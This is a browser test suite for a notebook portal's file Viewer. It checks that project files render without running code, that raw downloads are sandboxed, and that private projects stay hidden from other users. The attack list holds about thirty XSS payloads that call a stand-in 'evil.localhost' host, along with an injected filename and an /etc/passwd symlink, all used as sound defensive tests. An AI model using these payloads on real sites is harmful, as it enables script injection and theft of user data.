// The Viewer in a real browser: files of a project shown, nothing in them run,
// and a stranger who cannot find a private project.
import assert from 'node:assert/strict'
import { mkdirSync, writeFileSync, symlinkSync, chmodSync, readFileSync, readdirSync, statSync } from 'node:fs'
import http from 'node:http'
import { join } from 'node:path'
import { after, before, test } from 'node:test'
import { launch, look, person } from './lib/chromium.mjs'
import { inside, newProject, openApp, setUp, signIn, state } from './lib/portal.mjs'
import { start } from './lib/quire.mjs'
import { until } from './lib/wait.mjs'

const grace = { name: 'grace', password: 'a bug in relay seventy' }
let quire, browser, ada, tab, viewer, content, evil, dir
let beacons = 0

before(async () => {
  quire = await start()
  browser = await launch()
  ada = await person(browser)
  await setUp(ada.page, quire.address)
  quire.commandWith(`${grace.password}\n`, 'admin', 'create', grace.name, '--password-stdin', '--member')
  await state(ada.page, 'running')
  const server = http.createServer((request, response) => {
    beacons++
    response.setHeader('Access-Control-Allow-Origin', '*')
    response.end('')
  })
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve))
  evil = { origin: `http://evil.localhost:${server.address().port}`, close: () => server.close() }
  dir = join(quire.dirs.projects, 'ada', 'Welcome')
  fill()
})
after(async () => {
  evil?.close()
  await browser?.close()
  await quire?.stop()
})

// attacks call home in as many ways as a page can be made to.
function attacks() {
  const e = evil.origin
  const go = `fetch('${e}/script')`
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${go}"><script>${go}</script><image href="${e}/svg"/><style>*{background:url(${e}/svgcss)}</style></svg>`
  return [
    `<script>${go}</script>`, `<script src="${e}/x.js"></script>`, `<img src=x onerror="${go}">`, `<img src="${e}/i.png">`, svg,
    `<svg><a xlink:href="javascript:${go}"><text>x</text></a></svg>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${go}&gt;">`,
    `<iframe src="${e}/frame"></iframe>`, `<iframe srcdoc="<script>${go}</script>"></iframe>`, `<object data="${e}/o"></object>`, `<embed src="${e}/e">`,
    `<link rel=stylesheet href="${e}/l.css">`, `<style>@import url(${e}/s.css);*{background:url(${e}/b)}</style>`, `<div style="background:url(${e}/style);position:fixed;inset:0">overlay</div>`,
    `<base href="${e}/">`, `<meta http-equiv=refresh content="0;url=${e}/refresh">`, `<body onload="${go}">`, `<video poster="${e}/p"><source src="${e}/v"></video>`, `<audio src="${e}/a" autoplay></audio>`,
    `<details open ontoggle="${go}"><summary>x</summary></details>`, `<a class=trap href="javascript:${go}">trap</a>`, `<form action="${e}/login"><input name=p autofocus onfocus="${go}"><button class=trap>Sign in</button></form>`,
    `<button class=trap data-commandlinker-command="x" onclick="${go}">one click</button>`, `<input type=image src="${e}/in">`, `<table background="${e}/t"><tr><td>x</td></tr></table>`,
    `<p class="math">\\href{javascript:${go}}{x}\\includegraphics{${e}/tex}</p>`, `<noscript><p title="</noscript><img src=x onerror=${go}>">`, `<img name=querySelectorAll id=body><a id=location></a>`,
    `$\\href{javascript:${go}}{x}$`, `$\\includegraphics{${e}/tex2}$`, `![x](${e}/md.png)`, `[x](javascript:${go})`, `\x1b]1338;url=${e}/ansi.png\x07`,
  ]
}

const pixel = 'iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAYAAACNMs+9AAAAFUlEQVR42mNk+M9Qz0AEYBxVSF+FABJADveWkH6oAAAAAElFTkSuQmCC'

function fill() {
  const put = (name, content) => {
    const file = join(dir, name)
    mkdirSync(join(file, '..'), { recursive: true })
    writeFileSync(file, content)
    chmodSync(file, 0o664)
  }
  const all = attacks()
  const outputs = all.flatMap((v) => [
    ...['text/html', 'text/markdown', 'text/latex', 'image/svg+xml', 'application/javascript'].map((kind) => ({ output_type: 'display_data', metadata: {}, data: { [kind]: v } })),
    { output_type: 'stream', name: 'stdout', text: v }, { output_type: 'error', ename: v, evalue: v, traceback: [v] },
  ])
  const notebook = (cells) => JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata: { kernelspec: { name: 'python3', display_name: 'Python 3', language: 'python' }, language_info: { name: 'python' } }, cells })
  put('attack.ipynb', notebook([
    ...all.map((v, i) => ({ cell_type: 'markdown', id: `c${i}`, metadata: { v }, source: v })),
    ...all.map((v) => ({ cell_type: 'raw', metadata: { format: 'text/html' }, source: v })),
    { cell_type: 'code', execution_count: 1, source: all.join('\n'), outputs },
  ]))
  put('attack.md', all.join('\n\n'))
  put('attack.html', all.join('\n'))
  put('attack.svg', all[4])
  put('attack', `<!doctype html>${all.join('\n')}`)
  put('attack.csv', `a,b\n${all.map((v) => `"${v.replaceAll('"', '""')}",1`).join('\n')}\n`)
  put(`names/<img src=x onerror=fetch(name)>.txt`, 'x')
  put('names/"quotes" & \nlines', 'x')
  put('analysis.ipynb', notebook([
    { cell_type: 'markdown', metadata: {}, source: '# Rainfall in Bergen\n\nThe mean of $n$ days is $\\bar{x} = \\frac{1}{n} \\sum_{i=1}^{n} x_i$, and\n\n$$\n\\sigma^2 = \\frac{1}{n} \\sum_i (x_i - \\bar{x})^2\n$$\n\n| month | mm |\n|:--|--:|\n| Jan | 256 |\n| Feb | 211 |\n' },
    { cell_type: 'code', metadata: {}, execution_count: 1, source: 'import pandas as pd\n\ndef mean(days):\n    """The mean of some days."""\n    return sum(days) / len(days)  # mm\n\nrain = pd.read_csv("rain.csv")\nrain.head()', outputs: [
      { output_type: 'execute_result', execution_count: 1, metadata: {}, data: { 'text/html': '<div><style scoped>x</style><table border="1" class="dataframe"><thead><tr><th></th><th>day</th><th>mm</th></tr></thead><tbody><tr><th>0</th><td>2026-01-01</td><td>12.4</td></tr><tr><th>1</th><td>2026-01-02</td><td>31.0</td></tr></tbody></table></div>', 'text/plain': 'x' } },
      { output_type: 'stream', name: 'stderr', text: 'FutureWarning: a column is of mixed types\n' },
    ] },
    { cell_type: 'code', metadata: {}, execution_count: 2, source: 'mean([])', outputs: [{ output_type: 'error', ename: 'ZeroDivisionError', evalue: 'division by zero', traceback: ['\x1b[0;31m-----------------------------------\x1b[0m', '\x1b[0;31mZeroDivisionError\x1b[0m                 Traceback (most recent call last)', 'Cell \x1b[0;32mIn[2], line 1\x1b[0m\n\x1b[0;32m----> 1\x1b[0m \x1b[43mmean\x1b[49m\x1b[43m(\x1b[49m\x1b[43m[\x1b[49m\x1b[43m]\x1b[49m\x1b[43m)\x1b[49m', '\x1b[0;31mZeroDivisionError\x1b[0m: division by zero'] }] },
    { cell_type: 'code', metadata: {}, execution_count: 3, source: 'plot()', outputs: [
      { output_type: 'display_data', metadata: {}, data: { 'image/png': pixel, 'text/plain': '<Figure size 640x480>' } },
      { output_type: 'display_data', metadata: {}, data: { 'text/html': '<div id=p></div><script>draw()</script>', 'text/plain': 'Figure({...})' } },
      { output_type: 'display_data', metadata: {}, data: { 'application/vnd.jupyter.widget-view+json': { model_id: 'x' }, 'text/plain': 'IntSlider(value=7)' } },
    ] },
  ]))
  put('mean.py', `"""Means of things."""\nimport math\n\n\n@cached\ndef mean(values: list[float]) -> float:\n    # an empty list has none\n    if not values:\n        return math.nan\n    return sum(values) / len(values)\n${'\n'.repeat(60)}END = True\n`)
  put('rain.csv', `day,mm,station\n${Array.from({ length: 60 }, (_, i) => `2026-01-${i},${(i * 7) % 40},Bergen – Florida`).join('\n')}\n`)
  put('README.md', '# Rain\n\nRead [the analysis](analysis.ipynb) first.\n\n```python\nprint("hello")\n```\n\n> Data of the weather service.\n\n1. one\n2. two\n')
  put('public/notes.md', '# For everybody\n')
  put('pixel.png', Buffer.from(pixel, 'base64'))
  put('data.bin', Buffer.from([0, 1, 2, 3]))
  try { symlinkSync('/etc/passwd', join(dir, 'outside')) } catch { /* made before */ }
}

const at = (path) => `${viewer}/viewer/${path}`

test('the Viewer opens from the project, for reading', async () => {
  tab = await openApp(ada.page, 'Viewer')
  const view = await inside(tab, 'table.files')
  await view.getByRole('link', { name: 'analysis.ipynb' }).waitFor()
  viewer = new URL(tab.url()).origin
  await view.getByRole('link', { name: 'README.md' }).click()
  const page = await inside(tab, 'article.prose')
  await page.getByRole('heading', { name: 'Rain', level: 1 }).waitFor()
  await page.getByRole('link', { name: 'the analysis' }).click()
  const notebook = await inside(tab, '.cells')
  await notebook.locator('.math .katex').first().waitFor()
  // What is in files is seen on an origin without cookies; the bar says where.
  content = new URL(notebook.url()).origin
  assert.notEqual(content, viewer)
  await tab.waitForURL((url) => url.searchParams.get('path') === '/viewer/analysis.ipynb')
  assert.deepEqual(await ada.context.cookies(content), [])
  assert.deepEqual(await notebook.evaluate(() => { try { return [self.origin, document.cookie] } catch (error) { return [self.origin, error.name] } }), ['null', 'SecurityError'])
})

test('a page that was left open goes on by itself', async () => {
  // The pass in its links is spoilt, as time spoils it.
  const view = await inside(tab, '.cells')
  const pass = new URL(view.url()).pathname.split('/')[1]
  await view.evaluate((pass) => { for (const link of document.querySelectorAll('.crumbs a')) link.href = link.href.replace(pass, `${pass.slice(0, -4)}AAAA`) }, pass)
  await view.locator('.crumbs a').first().click()
  await inside(tab, 'table.files')
  await tab.waitForURL((url) => url.searchParams.get('path') === '/viewer/')
})

const pages = {
  'viewer-directory': '', 'viewer-notebook': 'analysis.ipynb', 'viewer-source': 'mean.py#L6-L10', 'viewer-table': 'rain.csv', 'viewer-markdown': 'README.md', 'viewer-image': 'pixel.png',
  'viewer-binary': 'data.bin', 'viewer-names': 'names', 'viewer-find': '?find=*.md', 'viewer-none': '?find=*.none', 'viewer-svg': 'attack.svg',
}
for (const [name, path] of Object.entries(pages)) {
  test(`${name} looks right`, async () => {
    const response = await tab.goto(at(path))
    assert.equal(response?.status() ?? 200, 200)
    if (name === 'viewer-notebook') await tab.locator('.math .katex').first().waitFor()
    await look(tab, name)
  })
}

test('a missing file and one outside are the same page', async () => {
  const texts = []
  for (const name of ['missing', 'outside']) {
    const response = await tab.goto(at(name))
    assert.equal(response.status(), 404)
    texts.push((await tab.locator('main').innerText()).replaceAll(name, 'NAME').replace(/Request \w+/, ''))
  }
  assert.equal(texts[0], texts[1])
  await look(tab, 'viewer-missing')
})

test('lines have addresses', async () => {
  await tab.goto(at('mean.py#L6-L8'))
  await tab.locator('#L8.marked').waitFor()
  assert.equal(await tab.locator('.line.marked').count(), 3)
  await tab.locator('#L10 .number').click({ modifiers: ['Shift'] })
  assert.equal(new URL(tab.url()).hash, '#L6-L10')
  assert.equal(await tab.locator('.line.marked').count(), 5)
  await tab.goto(at('mean.py#L70'))
  await until('the line is in sight', () => tab.locator('#L70').evaluate((line) => { const box = line.getBoundingClientRect(); return box.top > 0 && box.bottom < innerHeight }))
})

test('nothing in any file runs, loads or poses', async () => {
  const before = ada.errors.length
  for (const path of ['attack.ipynb', 'attack.md', 'attack.html', 'attack.svg', 'attack', 'attack.csv', 'names', 'attack.ipynb?source=1', 'attack.svg?source=1']) {
    const asked = []
    const listen = (request) => asked.push(request.url())
    tab.on('request', listen)
    await tab.goto(at(path))
    await tab.waitForLoadState('networkidle')
    // Whatever is left to press is pressed.
    const left = await tab.evaluate(() => {
      const traps = [...document.querySelectorAll('main .trap, main button, main form, main iframe, main object, main embed, main svg, main [onclick], main [style]:not(.katex *)')]
      for (const link of document.querySelectorAll('main a[href^="javascript" i]')) { traps.push(link); link.click() }
      return traps.map((element) => element.outerHTML.slice(0, 200))
    })
    assert.deepEqual(left, [], path)
    assert.deepEqual(await tab.evaluate(() => [typeof document.querySelectorAll, document.body.tagName, typeof location.href, document.baseURI === location.href]), ['function', 'BODY', 'string', true], path)
    tab.off('request', listen)
    assert.deepEqual(asked.filter((url) => !url.startsWith(viewer) && !url.startsWith(content) && !url.startsWith('data:image/')), [], path)
  }
  assert.equal(beacons, 0)
  // The policy had nothing to refuse: nothing came through to it. A picture that
  // is not there is the one thing a text may still ask for.
  assert.deepEqual(ada.errors.slice(before).filter((line) => !/404/.test(line)), [])
})

test('raw files do nothing where they are', async () => {
  for (const [path, active] of [['attack.html', true], ['attack.svg', true], ['attack', true], ['attack.md', true], ['README.md', false], ['mean.py', false], ['attack.ipynb', false]]) {
    // What is to be saved does not become a page; its answer is seen all the same.
    const answer = tab.waitForResponse((r) => r.url().startsWith(content) && r.url().endsWith(`/viewer/${path}?raw=1`))
    await tab.goto(at(path + '?raw=1')).catch(() => {})
    const response = await answer
    assert.equal(response.status(), 200, path)
    const headers = response.headers()
    assert.equal(headers['content-security-policy'].split('\n')[0], "sandbox; default-src 'none'", path)
    assert.equal(headers['x-content-type-options'], 'nosniff', path)
    assert.equal(headers['content-disposition'].startsWith('attachment'), active, path)
    assert.doesNotMatch(headers['content-type'], /html|javascript|xhtml/, path)
  }
  await tab.goto(at('README.md?raw=1'))
  assert.equal(await tab.evaluate(() => { try { return document.cookie } catch (error) { return error.name } }), 'SecurityError')
  // As an image an SVG runs nothing; as a script or a style a file is refused.
  await tab.goto(at('README.md'))
  const loaded = await tab.evaluate((address) => Promise.all(['script', 'link'].map((kind) => new Promise((resolve) => {
    const element = document.createElement(kind)
    if (kind === 'script') element.src = `${address}/viewer/mean.py?raw=1`
    else Object.assign(element, { rel: 'stylesheet', href: `${address}/viewer/README.md?raw=1` })
    element.onload = () => resolve('loaded')
    element.onerror = () => resolve('refused')
    document.head.append(element)
  }))), new URL(tab.url()).href.replace(/\/viewer\/.*/, ''))
  assert.deepEqual(loaded, ['refused', 'refused'])
  ada.errors.length = 0
  assert.equal(beacons, 0)
})

test('nothing was written into the project', () => {
  const found = readdirSync(dir, { recursive: true }).filter((name) => /ipynb\.html|\.cache|_viewer/.test(name))
  assert.deepEqual(found, [])
  assert.match(readFileSync(join(dir, 'README.md'), 'utf8'), /^# Rain/)
  assert.ok(statSync(join(dir, 'README.md')).isFile())
})

// V-05
test('another site, and a page of another project, get nothing', async () => {
  const foreign = await ada.context.newPage()
  await foreign.goto(`${evil.origin}/`)
  const answer = await foreign.evaluate(async (url) => {
    const image = await new Promise((resolve) => { const i = new Image(); i.onload = () => resolve('shown'); i.onerror = () => resolve('refused'); i.src = url })
    const text = await fetch(url, { credentials: 'include' }).then(() => 'read', () => 'refused')
    return [image, text]
  }, at('pixel.png?raw=1'))
  assert.deepEqual(answer, ['refused', 'refused'])
  await foreign.close()
  beacons = 0
})

test('a stranger finds a private project neither by its page nor by the Viewer', async () => {
  const stranger = await person(browser)
  await signIn(stranger.page, quire.portal, grace)
  for (const path of ['/ada/Welcome', '/ada/Welcome/viewer/', '/ada/Welcome/viewer/README.md', '/ada/nothing/viewer/README.md']) {
    assert.equal((await stranger.page.goto(quire.portal + path)).status(), 404, path)
  }
  // Not through ada's own origin either.
  await stranger.page.goto(at('README.md'))
  assert.equal(await stranger.page.getByText('Read the analysis first.').count(), 0)
  assert.doesNotMatch(await stranger.page.content(), /Data of the weather service/)
  await stranger.close()
})

test('the public folder is shown to whoever is signed in, on an origin of nobody', async () => {
  const stranger = await person(browser)
  await signIn(stranger.page, quire.portal, grace)
  await stranger.page.goto(`${quire.portal}/ada/Welcome/public/`)
  await stranger.page.getByRole('link', { name: 'notes.md' }).click()
  await stranger.page.getByRole('heading', { name: 'For everybody' }).waitFor()
  const { origin } = new URL(stranger.page.url())
  assert.notEqual(origin, content)
  assert.deepEqual(await stranger.context.cookies(origin), [])
  assert.deepEqual(stranger.errors, [])
  await look(stranger.page, 'public-file')
  await stranger.page.goto(`${quire.portal}/ada/Welcome/public/../README.md`)
  assert.equal(await stranger.page.getByText('Data of the weather service').count(), 0)
  await stranger.close()
})

// V-03
test('windows of the portal, of an app and of content are strangers to each other', async () => {
  const notebook = await openApp(ada.page, 'Notebook')
  await inside(notebook, '#notebook_list, #notebook-container')
  await tab.goto(at('README.md'))
  for (const [from, to] of [[notebook, `${quire.portal}/account`], [tab, `${quire.portal}/account`], [tab, `${viewer}/notebook/tree`]]) {
    const [opened] = await Promise.all([ada.context.waitForEvent('page'), from.evaluate((url) => { window.kept = window.open(url) }, to)])
    await opened.waitForLoadState()
    assert.match(await from.evaluate(() => { try { return `read: ${window.kept.document.body.innerText}` } catch (error) { return error.name } }), /^(SecurityError|TypeError)$/, to)
    assert.match(await opened.evaluate(() => { try { return window.opener === null ? 'none' : `read: ${window.opener.document.body.innerText}` } catch (error) { return error.name } }), /^(none|SecurityError)$/, to)
    await opened.close()
  }
  await notebook.close()
  ada.errors.length = 0
})

// V-12
test('the policy of the portal stops what should ever get into a page of its', async () => {
  await ada.page.goto(`${quire.portal}/ada/Welcome`)
  await ada.page.evaluate((foreign) => {
    window.stopped = new Set()
    document.addEventListener('securitypolicyviolation', (event) => window.stopped.add(event.effectiveDirective))
    const add = (tag, properties) => document.body.append(Object.assign(document.createElement(tag), properties))
    add('script', { textContent: 'window.ran = "inline"' })
    add('script', { src: `${foreign}/x.js` })
    add('script', { src: 'data:text/javascript,window.ran="data"' })
    add('img', { src: `${foreign}/i.png` })
    add('iframe', { src: 'data:text/html,x' })
    add('iframe', { src: foreign })
    add('object', { data: `${foreign}/o` })
    add('style', { textContent: 'body { display: none }' })
    document.head.append(Object.assign(document.createElement('base'), { href: foreign }))
    fetch(foreign).catch(() => {})
    const form = Object.assign(document.createElement('form'), { action: foreign, method: 'post' })
    document.body.append(form)
    form.submit()
  }, evil.origin)
  const wanted = ['base-uri', 'connect-src', 'form-action', 'frame-src', 'img-src', 'object-src', 'script-src-elem', 'style-src-elem']
  await until('every directive has stopped something', () => ada.page.evaluate((names) => names.every((name) => window.stopped.has(name)), wanted))
  assert.deepEqual(await ada.page.evaluate(() => [typeof window.ran, document.baseURI.startsWith(location.origin), getComputedStyle(document.body).display !== 'none']), ['undefined', true, true])
  assert.equal(beacons, 0)
  ada.errors.length = 0
})

test('no page wrote an error to the console', () => {
  assert.deepEqual(ada.errors.filter((line) => !/404|403|CORS|ERR_/.test(line)), [])
})
